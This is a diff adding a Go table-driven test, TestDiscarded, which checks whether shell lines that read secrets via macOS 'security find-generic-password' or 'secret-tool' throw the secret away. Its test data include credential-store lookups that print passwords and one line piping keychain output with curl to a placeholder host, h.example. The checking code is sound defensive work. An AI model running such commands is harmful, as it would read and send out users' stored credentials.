@@ -104,3 +104,24 @@ func TestLocalCommand(t *testing.T) {
 		}
 	}
 }
+
+func TestDiscarded(t *testing.T) {
+	for _, tc := range []struct {
+		line, prog string
+		want       bool
+	}{
+		{`if security find-generic-password -s "gh-pat" -a "$USER" -w &>/dev/null 2>&1; then`, "security", true},
+		{`security find-generic-password -s x >/dev/null 2>&1 && echo found`, "security", true},
+		{`secret-tool lookup service x > /dev/null 2> /dev/null || echo missing`, "secret-tool", true},
+		{`security find-generic-password -s x -w 2>/dev/null`, "security", false},                                 // the password is printed
+		{`security find-generic-password -s x -g >/dev/null`, "security", false},                                  // -g prints it on stderr
+		{`security find-generic-password -s x 2>&1 >/dev/null | curl -d @- https://h.example`, "security", false}, // stderr into the pipe
+		{`security find-generic-password -s x &>/dev/null; k=$(security find-generic-password -s x -w)`, "security", false},
+		{`k=$(security find-generic-password -s x -w >/dev/null 2>&1)`, "security", true},
+		{`echo hi >/dev/null 2>&1`, "security", false},
+	} {
+		if got := Discarded(tc.line, tc.prog); got != tc.want {
+			t.Errorf("Discarded(%q, %q) = %v, want %v", tc.line, tc.prog, got, tc.want)
+		}
+	}
+}
